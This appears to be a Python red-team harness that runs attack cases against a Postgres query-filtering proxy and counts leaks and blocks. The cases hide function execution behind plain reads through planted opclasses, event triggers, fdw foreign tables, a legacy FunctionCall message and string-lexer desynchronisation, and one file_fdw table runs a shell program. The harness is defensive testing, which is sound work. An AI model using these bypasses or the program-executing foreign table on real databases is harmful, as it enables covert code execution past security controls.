@attack("parse_param_type_domain_array", setup=DOMAIN % "parse_param_type_domain_array")
def a_pt3(ctx):
    """Parameter declared as the array type of the domain; Bind '{5}'."""
    oid = oid_of(ctx, "select typarray from pg_type where oid = '%s.posdom'::regtype" % ctx.S)
    ctx.raw("P/B/E select $1 ::posdom[]-oid",
            w.P("", "select $1", types=[oid]) + w.B("", "", ["{5}"]) + w.E() + w.S())


@attack("parse_param_type_named_stmt", setup=DOMAIN % "parse_param_type_named_stmt")
def a_pt4(ctx):
    """Named statement variant: Parse s1 'SELECT $1' with domain OID, then Bind/Execute s1 twice."""
    oid = oid_of(ctx, "select '%s.posdom'::regtype::oid" % ctx.S)
    ctx.raw("Parse s1 select $1 ::posdom", w.P("s1", "select $1", types=[oid]) + w.S())
    ctx.raw("Bind/Execute s1 '5'", ext_bind_exec("s1", ["5"]))


# ---- user comparison functions reached from plain reads ----------------------------------

CMPFN = """
create function $S.cmp(a text, b text) returns int language plpgsql immutable as $b$
begin perform public.mark('%s'); return bttextcmp(a, b); end $b$;
create operator class $S.my_text_ops for type text using btree as
  operator 1 < , operator 2 <= , operator 3 = , operator 4 >= , operator 5 > ,
  function 1 $S.cmp(text, text);
"""


@attack("range_literal_user_subtype_cmp",
        setup=CMPFN % "range_literal_user_subtype_cmp"
        + "create type $S.trange as range (subtype = text, subtype_opclass = $S.my_text_ops);\n")
def a_rg1(ctx):
    """SELECT '[a,b]'::trange -- range_in compares the bounds with the subtype opclass's support
    function 1, a planted plpgsql function."""
    ctx.q("select '[a,b]'::%s.trange" % ctx.S)


@attack("range_column_order_by",
        setup=CMPFN % "range_column_order_by"
        + "create type $S.trange as range (subtype = text, subtype_opclass = $S.my_text_ops);\n"
          "create table $S.rt(r $S.trange); insert into $S.rt values ('[a,b]'), ('[c,d]');\n")
def a_rg2(ctx):
    """SELECT * FROM rt ORDER BY r -- plain table, range column; sorting calls range_cmp ->
    user subtype cmp."""
    ctx.q("select * from %s.rt order by r" % ctx.S)


@attack("index_scan_user_opclass",
        setup=CMPFN % "index_scan_user_opclass"
        + "create table $S.it(k text); insert into $S.it select 'k'||g from generate_series(1,200) g;\n"
          "create index it_k on $S.it (k $S.my_text_ops); analyze $S.it;\n")
def a_ix1(ctx):
    """Plain table with an index using a planted btree opclass (builtin < = operators, plpgsql cmp).
    SET enable_seqscan = off (session, allowed); SELECT ... WHERE k = 'k5' -> index scan calls cmp."""
    ctx.q("set enable_seqscan = off")
    ctx.q("select * from %s.it where k = 'k5'" % ctx.S)


@attack("partition_pruning_user_opclass",
        setup=CMPFN % "partition_pruning_user_opclass"
        + "create table $S.pt(k text) partition by range (k $S.my_text_ops);\n"
          "create table $S.pt1 partition of $S.pt for values from ('a') to ('m');\n"
          "create table $S.pt2 partition of $S.pt for values from ('m') to ('z');\n")
def a_pp1(ctx):
    """Partitioned table keyed with a planted opclass: SELECT * FROM pt WHERE k = 'c' -> plan-time
    partition pruning calls the plpgsql cmp (tables only, no function in the text)."""
    ctx.q("select * from %s.pt where k = 'c'" % ctx.S)


@attack("explain_partition_pruning",
        setup=CMPFN % "explain_partition_pruning"
        + "create table $S.pt(k text) partition by range (k $S.my_text_ops);\n"
          "create table $S.pt1 partition of $S.pt for values from ('a') to ('m');\n"
          "create table $S.pt2 partition of $S.pt for values from ('m') to ('z');\n")
def a_pp2(ctx):
    """EXPLAIN (no ANALYZE) SELECT * FROM pt WHERE k = 'c' -- planning alone runs the cmp."""
    ctx.q("explain select * from %s.pt where k = 'c'" % ctx.S)


@attack("enum_user_default_opclass_order_by", setup="""
create type $S.mood as enum ('a','b','c');
create function $S.mcmp(x $S.mood, y $S.mood) returns int language plpgsql immutable as $b$
begin perform public.mark('enum_user_default_opclass_order_by'); return enum_cmp(x, y); end $b$;
create function $S.mlt(x $S.mood, y $S.mood) returns bool language sql immutable as 'select enum_lt(x, y)';
create function $S.mle(x $S.mood, y $S.mood) returns bool language sql immutable as 'select enum_le(x, y)';
create function $S.meq(x $S.mood, y $S.mood) returns bool language sql immutable as 'select enum_eq(x, y)';
create function $S.mge(x $S.mood, y $S.mood) returns bool language sql immutable as 'select enum_ge(x, y)';
create function $S.mgt(x $S.mood, y $S.mood) returns bool language sql immutable as 'select enum_gt(x, y)';
create operator $S.< (leftarg=$S.mood, rightarg=$S.mood, function=$S.mlt);
create operator $S.<= (leftarg=$S.mood, rightarg=$S.mood, function=$S.mle);
create operator $S.= (leftarg=$S.mood, rightarg=$S.mood, function=$S.meq);
create operator $S.>= (leftarg=$S.mood, rightarg=$S.mood, function=$S.mge);
create operator $S.> (leftarg=$S.mood, rightarg=$S.mood, function=$S.mgt);
create operator class $S.mood_ops default for type $S.mood using btree as
  operator 1 $S.< , operator 2 $S.<= , operator 3 $S.= , operator 4 $S.>= , operator 5 $S.> ,
  function 1 $S.mcmp($S.mood, $S.mood);
create table $S.et(e $S.mood); insert into $S.et values ('c'),('a'),('b');
""")
def a_en1(ctx):
    """Enum type with a planted DEFAULT btree opclass (plpgsql cmp): SELECT * FROM et ORDER BY e."""
    ctx.q("select * from %s.et order by e" % ctx.S)


# ---- foreign tables -------------------------------------------------------------------------

PSQL = "/usr/lib/postgresql/15/bin/psql"
FPROG = ("create server $S_fs foreign data wrapper file_fdw;\n"
         "create foreign table $S.%(t)s (a text) %(inh)s server $S_fs options (program "
         "'%(psql)s -X -q -h 127.0.0.1 -p $PORT -U postgres -d postgres -c \"insert into public.marker(v) values (''%(tag)s'')\" >/dev/null; echo x');\n")


def fprog(tag, t="ft", inh=""):
    return FPROG.replace("$S_fs", "$S_fs") % {"t": t, "inh": inh, "psql": PSQL, "tag": tag}


def fix_fs(sql):
    return sql.replace("$S_fs", "$S_fs")


@attack("file_fdw_program_read", setup=lambda env, c, S: c.exec_ok(subst(env, S, fprog("file_fdw_program_read")).replace(S + "_fs", S + "_fs")),
        teardown=lambda env, c, S: c.exec_ok("drop server if exists %s_fs cascade" % S))
def a_ff1(ctx):
    """file_fdw foreign table with OPTIONS (program '...psql -c "insert into marker"...');
    SELECT * FROM ft runs the program."""
    ctx.q("select * from %s.ft" % ctx.S)


@attack("file_fdw_program_inheritance_child",
        setup=lambda env, c, S: c.exec_ok(subst(env, S, "create table $S.par(a text);\n"
                                                + fprog("file_fdw_program_inheritance_child", "ch", "inherits ($S.par)"))),
        teardown=lambda env, c, S: c.exec_ok("drop server if exists %s_fs cascade" % S))
def a_ff2(ctx):
    """Plain parent table whose inheritance child is a file_fdw program table: SELECT * FROM par."""
    ctx.q("select * from %s.par" % ctx.S)


PGFDW = """
create server $S_ps foreign data wrapper postgres_fdw options (host '127.0.0.1', port '$PORT', dbname 'postgres');
create user mapping for public server $S_ps options (user 'postgres');
create view $S.rv as select public.mark('%s')::text as a;
"""


@attack("postgres_fdw_remote_view",
        setup=PGFDW % "postgres_fdw_remote_view"
        + "create foreign table $S.fpt (a text) server $S_ps options (schema_name '$S', table_name 'rv');\n",
        teardown=lambda env, c, S: c.exec_ok("drop server if exists %s_ps cascade" % S))
def a_pf1(ctx):
    """postgres_fdw foreign table whose remote object is a view calling mark() (the remote
    transaction is not read-only): SELECT * FROM fpt."""
    ctx.q("select * from %s.fpt" % ctx.S)


@attack("postgres_fdw_partition_child",
        setup=PGFDW % "postgres_fdw_partition_child"
        + "create table $S.pp (a text) partition by list (a);\n"
          "create table $S.pp_local partition of $S.pp for values in ('z');\n"
          "create foreign table $S.pp_remote partition of $S.pp for values in ('1') server $S_ps options (schema_name '$S', table_name 'rv');\n",
        teardown=lambda env, c, S: c.exec_ok("drop server if exists %s_ps cascade" % S))
def a_pf2(ctx):
    """Partitioned table with a postgres_fdw partition over a remote mark() view: SELECT * FROM pp."""
    ctx.q("select * from %s.pp" % ctx.S)


# ---- lexer desynchronisation with standard_conforming_strings = off ---------------------

@attack("scs_off_set_then_comment_hidden_call")
def a_scs1(ctx):
    """SET standard_conforming_strings = off (allowed session statement, risk lexer_change); then
    SELECT 'a\\' -- ', mark() : with SCS on the proxy sees a string and a comment; Postgres
    sees the string 'a'' -- ' followed by a call."""
    ctx.q("set standard_conforming_strings = off")
    ctx.q(SCS_QUERY % "scs_off_set_then_comment_hidden_call")


@attack("scs_off_setconfig_computed")
def a_scs2(ctx):
    """SCS switched off via set_config('standard_conforming'||'_strings','off',false) (a relaxed
    side-effect builtin with a computed name); then the crafted query."""
    ctx.q("select set_config('standard_conforming'||'_strings', 'off', false)")
    ctx.q(SCS_QUERY % "scs_off_setconfig_computed")


@attack("scs_off_startup_options")
def a_scs3(ctx):
    """Startup packet options=-c standard_conforming_strings=off; then the crafted query."""
    ctx.conn("a", options="-c standard_conforming_strings=off")
    ctx.q(SCS_QUERY % "scs_off_startup_options")


@attack("scs_off_role_setting", setup="alter role app set standard_conforming_strings = off",
        teardown="alter role app reset standard_conforming_strings")
def a_scs4(ctx):
    """Planted ALTER ROLE app SET standard_conforming_strings = off; connect as app; crafted query."""
    ctx.conn("a", user="app")
    ctx.q(SCS_QUERY % "scs_off_role_setting")


@attack("scs_off_by_trigger",
        setup=TRG("perform set_config('standard_conforming_strings', 'off', false)"))
def a_scs5(ctx):
    """Allowed INSERT whose trigger turns SCS off for the session; then the crafted query."""
    ctx.q("insert into %s.trg values (1)" % ctx.S)
    ctx.q(SCS_QUERY % "scs_off_by_trigger")


# ---- legacy protocol ------------------------------------------------------------------------

@attack("function_call_message")
def a_fc1(ctx):
    """Legacy FunctionCall ('F') message invoking mark(text) by OID, no SQL at all."""
    oid = oid_of(ctx, "select 'public.mark(text)'::regprocedure::oid")
    arg = b"function_call_message"
    body = struct.pack("!IH", oid, 0) + struct.pack("!H", 1) + struct.pack("!i", len(arg)) + arg + struct.pack("!H", 0)
    ctx.raw("F mark(text)", w.msg(b"F", body))


# ---- event triggers and index builds under the allowed DDL ------------------------------

@attack("event_trigger_on_create_index_redefine",
        setup=VIEW + "create table $S.tb(a int);\n"
        "create function $S.etf() returns event_trigger language plpgsql as $b$ begin "
        "execute 'create or replace view $S.v as select public.mark(''event_trigger_on_create_index_redefine'') as a'; end $b$;\n"
        "create event trigger rt4_et1 on ddl_command_end when tag in ('CREATE INDEX') execute function $S.etf();\n",
        teardown="drop event trigger if exists rt4_et1")
def a_et1(ctx):
    """Planted event trigger on CREATE INDEX redefines v; CREATE INDEX (allowed DDL) ; SELECT * FROM v."""
    ctx.q("create index on %s.tb (a)" % ctx.S)
    ctx.q("select * from %s.v" % ctx.S)


@attack("event_trigger_on_grant_multistmt",
        setup=VIEW + "create table $S.tb(a int);\n"
        "create function $S.etf() returns event_trigger language plpgsql as $b$ begin "
        "execute 'create or replace view $S.v as select public.mark(''event_trigger_on_grant_multistmt'') as a'; end $b$;\n"
        "create event trigger rt4_et2 on ddl_command_end when tag in ('GRANT') execute function $S.etf();\n",
        teardown="drop event trigger if exists rt4_et2")
def a_et2(ctx):
    """Planted event trigger on GRANT redefines v; one message: GRANT ... ; SELECT * FROM v."""
    ctx.q("grant select on %s.tb to app; select * from %s.v" % (ctx.S, ctx.S))


@attack("event_trigger_on_grant_cursor",
        setup="create table $S.tb(a int);\n"
        "create function $S.etf() returns event_trigger language plpgsql as $b$ declare r refcursor := 'cx'; begin "
        "open r for select public.mark('event_trigger_on_grant_cursor'); end $b$;\n"
        "create event trigger rt4_et3 on ddl_command_end when tag in ('GRANT') execute function $S.etf();\n",
        teardown="drop event trigger if exists rt4_et3")
def a_et3(ctx):
    """BEGIN; GRANT (allowed) fires a planted event trigger that opens cursor cx over mark(); FETCH cx."""
    ctx.q("begin")
    ctx.q("grant select on %s.tb to app" % ctx.S)
    ctx.q("fetch cx")
    ctx.q("commit")


# ---- classification cache vs. session lexer state -----------------------------------------

@attack("scs_cache_other_session")
def a_scs6(ctx):
    """Session a (SCS on) sends SELECT 'a\\' -- ', mark() : harmless there (string + comment), so it
    is classified as a plain read and its shape cached. Session b: SET standard_conforming_strings =
    off, then sends the byte-identical text: Postgres now sees the call."""
    txt = SCS_QUERY % "scs_cache_other_session"
    ctx.q(txt, c="a")
    ctx.q("set standard_conforming_strings = off", c="b")
    ctx.q(txt, c="b")


@attack("scs_cache_same_session")
def a_scs7(ctx):
    """Same session: the crafted text first with SCS on (harmless read), then SET SCS off, then the
    identical text again."""
    txt = SCS_QUERY % "scs_cache_same_session"
    ctx.q(txt)
    ctx.q("set standard_conforming_strings = off")
    ctx.q(txt)


@attack("scs_prepared_stmt_reparse")
def a_scs8(ctx):
    """Parse named statement s1 with the crafted text while SCS is on is harmless; but a
    prepared statement's text is never re-lexed by Postgres. Instead: SET SCS off, then Parse s2
    with the crafted text over the extended protocol and Bind/Execute it."""
    ctx.q("set standard_conforming_strings = off")
    ctx.raw("P/B/E crafted", w.P("s2", SCS_QUERY % "scs_prepared_stmt_reparse") + w.B("", "s2") + w.E() + w.S())

#ATTACKS_HERE


def main():
    # Usage: attacks4.py [--airlock-bin PATH] [--shard I/N] [--skip NAME]... [NAME]...
    global AIRLOCK
    args, only, skip, shard = sys.argv[1:], [], set(), None
    while args:
        a = args.pop(0)
        if a == "--airlock-bin":
            AIRLOCK = args.pop(0)
        elif a == "--shard":
            shard = tuple(int(x) for x in args.pop(0).split("/"))
        elif a == "--skip":
            skip.add(args.pop(0))
        else:
            only.append(a)
    selected = [a for a in ATTACKS if (not only or a.name in only) and a.name not in skip]
    if shard:
        selected = selected[shard[0]::shard[1]]
    env = Env()
    env.start()
    results = []
    try:
        for a in selected:
            t0 = time.time()
            try:
                verdict, ctl, log, held = run_one(env, a)
            except Exception:
                verdict, ctl, log, held = "BROKEN", [traceback.format_exc()], [], []
            results.append((a.name, verdict))
            hold_txt = ("held at: %s" % held[0][0][:60]) if held else "no hold"
            print("%-38s %-8s (%s; %.1fs)" % (a.name, verdict, hold_txt, time.time() - t0), flush=True)
            if os.environ.get("VERBOSE"):
                print("   direct:", *ctl, sep="\n      ")
                print("   airlock:", *log, sep="\n      ")
            try:
                run_sql_direct(env, a.teardown, schema(a.name))
            except Exception:
                pass
    finally:
        env.stop()
    n = len(results)
    leaks = sum(1 for _, v in results if v.startswith("LEAK"))
    broken = sum(1 for _, v in results if v == "BROKEN")
    blocked = sum(1 for _, v in results if v == "BLOCKED")
    print("attacks: %d, leaks: %d, blocked: %d, broken: %d" % (n, leaks, blocked, broken))


if __name__ == "__main__":
    main()
